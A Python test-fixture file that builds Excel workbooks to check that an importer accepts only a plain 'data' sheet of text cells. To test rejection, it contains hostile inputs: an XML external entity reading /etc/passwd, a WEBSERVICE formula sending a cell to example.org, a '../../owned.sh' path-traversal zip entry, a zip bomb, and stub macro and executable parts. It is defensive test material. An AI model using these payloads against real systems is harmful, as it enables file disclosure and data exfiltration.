"""Workbooks: the sheet `data`, every cell text; whatever else a workbook can do is refused before it is read."""

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any, Final

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.exchange.corpus.building import COLUMNS, Data, Entry, Row, case, row, rows

NAME: Final = "data.xlsx"
SHEET: Final = "xl/worksheets/sheet1.xml"
BOMB_BYTES: Final = 30_000_000


def _book(lines: list[Row], bend: Callable[[Worksheet], object] = lambda _: None) -> bytes:
    book, content = Workbook(), io.BytesIO()
    sheet = book.worksheets[0]
    sheet.title = "data"
    for line in [COLUMNS, *([line[name] or None for name in COLUMNS] for line in lines)]:
        sheet.append(line)
    bend(sheet)
    book.save(content)
    return content.getvalue()


def _repacked(content: bytes, parts: dict[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """The workbook with some of its parts other than they were, or more."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = parts.get(name)
            new.writestr(
                name, old.read(name) if part is None else part if isinstance(part, bytes) else part(old.read(name))
            )
        for name in parts.keys() - set(old.namelist()):
            part = parts[name]
            new.writestr(name, part if isinstance(part, bytes) else part(b""))
    return made.getvalue()


PLAIN: Final = _book(rows(3))


def _refused(name: str, content: bytes, rules: str = "plain_workbook", **more: Any) -> Entry:
    return case(f"xlsx-{name}", "REJECTED", {NAME: Data(content, 3, "xlsx")}, rules=rules, **more)


def _bent(name: str, bend: Callable[[Worksheet], object], rules: str = "plain_workbook", **more: Any) -> Entry:
    return _refused(name, _book(rows(3), bend), rules, **more)


def _with(name: str, rules: str = "plain_workbook", **parts: bytes | Callable[[bytes], bytes]) -> Entry:
    named = {re.sub("__", "/", part).replace("_dot_", "."): content for part, content in parts.items()}
    return _refused(name, _repacked(PLAIN, named), rules)  # type: ignore[arg-type]


def _hide(sheet: Worksheet) -> None:
    sheet.parent.create_sheet("codes").sheet_state = "veryHidden"


def _set(place: str, value: object) -> Callable[[Worksheet], None]:
    def bend(sheet: Worksheet) -> None:
        sheet[place] = value

    return bend


def _as_text(place: str, text: str) -> Callable[[Worksheet], None]:
    def bend(sheet: Worksheet) -> None:
        sheet[place] = text
        sheet[place].data_type = "s"  # a text that begins as a formula does, and is none

    return bend


def _title(name: str) -> Callable[[Worksheet], None]:
    def bend(sheet: Worksheet) -> None:
        sheet.title = name

    return bend


VALUE: Final = f"{chr(ord('A') + COLUMNS.index('obs_value'))}"
DTD: Final = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

ENTRIES: Final = [
    case("xlsx-plain", "ACCEPTED", {NAME: Data(PLAIN, 3, "xlsx")}, counts={"new": 3}),
    case(
        "xlsx-number-cells",
        "ACCEPTED_WITH_HELD_ROWS",
        {
            NAME: Data(
                _book(rows(3), lambda sheet: (_set(f"{VALUE}2", 12.5)(sheet), _set(f"{VALUE}3", True)(sheet))),
                3,
                "xlsx",
            )
        },
        rules="cell_is_text",
        held={(NAME, 1): {"cell_is_text"}, (NAME, 2): {"cell_is_text"}},
        counts={"new": 1},
    ),
    case(
        "xlsx-date-cell",
        "ACCEPTED_WITH_HELD_ROWS",
        {NAME: Data(_book(rows(3), _set("F2", dt.date(2024, 1, 1))), 3, "xlsx")},
        rules="cell_is_text",
        held={(NAME, 1): {"cell_is_text"}},
        counts={"new": 2},
    ),
    case(
        "xlsx-bad-rows",
        "ACCEPTED_WITH_HELD_ROWS",
        {NAME: Data(_book([row(1), row(2, obs_value="1e5"), row(3)]), 3, "xlsx")},
        rules="decimal",
        held={(NAME, 2): {"decimal"}},
        counts={"new": 2},
    ),
    case(
        "xlsx-formula-as-text",
        "ACCEPTED_WITH_HELD_ROWS",
        {NAME: Data(_book([row(1), row(2), row(3)], _as_text("O3", "=1+1")), 3, "xlsx")},
        rules="no_formula",
        held={(NAME, 2): {"no_formula"}},
        counts={"new": 2},
    ),
    _bent("formula", _set(f"{VALUE}2", "=1+1"), says="formula"),
    _bent("formula-to-web", _set(f"{VALUE}2", '=WEBSERVICE("https://example.org/"&A1)')),
    _bent("merged", lambda sheet: sheet.merge_cells("A2:B2"), says="merged"),
    _bent("hidden-sheet", _hide, says="hidden"),
    _bent("other-sheet", lambda sheet: sheet.parent.create_sheet("notes"), says="notes"),
    _bent("sheet-of-other-name", _title("Sheet1"), says="Sheet1"),
    _bent("far-corner", _set("XFD1048576", "x"), "row_count"),
    _bent("far-column", _set("XFD2", "x"), "column_count"),
    _bent("sparse", _set("A200000", "x"), "row_count"),
    _bent("cell-beyond", _set("Z3", "x"), "column_count"),
    _bent("cell-behind-last-column", _set(f"{chr(ord('A') + len(COLUMNS))}3", "x"), "row_width"),
    _bent("header-moved", lambda sheet: sheet.insert_rows(1), "has_header"),
    _with("macro", xl__vbaProject_dot_bin=b"x"),
    _with("macro-sheet", xl__macrosheets__sheet1_dot_xml=b"<x/>"),
    _with("external-link", xl__externalLinks__externalLink1_dot_xml=b"<x/>"),
    _with("embedded-file", xl__embeddings__oleObject1_dot_bin=b"x"),
    _with("active-control", xl__activeX__activeX1_dot_xml=b"<x/>"),
    _with("program", xl__setup_dot_exe=b"MZ"),
    _refused("parent-path", _repacked(PLAIN, {"../../owned.sh": b"x"})),
    _refused("dtd", _repacked(PLAIN, {SHEET: lambda xml: DTD + re.sub(rb"<\?xml.*?\?>", b"", xml)})),
    _refused(
        "external-entity",
        _repacked(
            PLAIN,
            {SHEET: lambda xml: DTD + re.sub(rb"<\?xml.*?\?>", b"", xml).replace(b"</sheetData>", b"&e;</sheetData>")},
        ),
    ),
    _refused("utf-16-part", _repacked(PLAIN, {SHEET: lambda xml: xml.decode().encode("utf-16")})),
    _refused(
        "bomb",
        _repacked(PLAIN, {"xl/theme/bomb.xml": b"<x>" + b" " * BOMB_BYTES + b"</x>"}),
        agreement={"limits": {"file_bytes": 1_000_000}},
    ),
    _refused("many-parts", _repacked(PLAIN, {f"xl/x{number}.xml": b"<x/>" for number in range(250)})),
    _refused("cell-without-place", _repacked(PLAIN, {SHEET: lambda xml: xml.replace(b' r="A2"', b"")})),
    _refused("cut-off", PLAIN[:-100], "file_format"),
    _refused("no-zip", b"x" * 1_000, "file_format"),
    _refused("csv-inside", b"freq,ref_area\nA,CAN\n", "file_format"),
    _refused("empty", b"", "file_format"),
    _refused("zip-of-nothing", _repacked(PLAIN, {SHEET: b""}), "file_format"),
]
